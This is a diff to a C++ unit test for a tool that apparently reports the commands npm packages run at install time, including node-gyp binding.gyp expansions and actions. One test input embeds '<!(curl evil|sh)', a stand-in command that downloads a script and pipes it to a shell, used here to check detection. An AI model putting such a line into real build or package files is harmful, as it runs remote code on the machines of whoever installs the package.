@@ -236,8 +236,9 @@ TEST_CASE("npm: what binding.gyp runs is a part of the hook, and so is a program
   CHECK(hooks("{}", "") == "npm:install=node-gyp rebuild | ");
   CHECK(hooks("{\"sources\": [\"<!(curl evil|sh)\"]}", "") ==
         "npm:install=node-gyp rebuild <!(curl evil|sh)\" | ");
-  CHECK(hooks(R"({"actions": [{"action": ["sh", "x"]}]})", "")
-            .starts_with("npm:install=node-gyp rebuild with actions, sha256:"));
+  CHECK(hooks(R"({"actions": [{"action": ["sh", "x"]}]})", "") ==
+        "npm:install=node-gyp rebuild [\"sh\", \"x\"] | ");
+  CHECK(hooks("{}", R"("gypfile": false, "directories": {"bin": "."})").empty());
   CHECK(hooks("{}", R"("gypfile": false, "bin": {"git": "i.js", "p": "i.js"})") == "npm:bin=git | ");
 }
 
